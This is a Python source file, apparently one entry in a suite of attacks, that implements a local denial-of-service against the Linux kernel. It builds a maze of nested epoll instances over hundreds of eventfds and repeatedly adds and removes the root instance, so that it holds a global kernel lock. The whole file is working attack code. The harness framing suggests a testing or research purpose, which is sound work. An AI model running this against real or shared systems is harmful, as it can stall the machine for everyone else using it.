# SPDX-License-Identifier: Apache-2.0
"""A global lock of the kernel, taken for each addition to a nested epoll instance, and held by an attacker."""

import contextlib
import os
import resource
import select

from attack import Attack, Target

# Watches of one attacker: the kernel visits each with the lock held. Millions are possible.
INSTANCES, FILES = 300, 900


def maze(target: Target) -> None:
    """Watch an epoll instance of epoll instances repeatedly."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    files = [os.eventfd(0) for _ in range(FILES)]
    root, top, kept = select.epoll(), select.epoll(), []
    for _ in range(INSTANCES):
        if target.left <= 0:
            break
        instance = select.epoll()
        for file in files:
            instance.register(file, select.EPOLLIN)
        root.register(instance, select.EPOLLIN)
        kept.append(instance)
    for _ in target.attempts():
        with contextlib.suppress(OSError):
            top.register(root, select.EPOLLIN)
        with contextlib.suppress(OSError):
            top.unregister(root)


ROWS = [Attack("a maze of epoll instances", maze, attackers=2)]
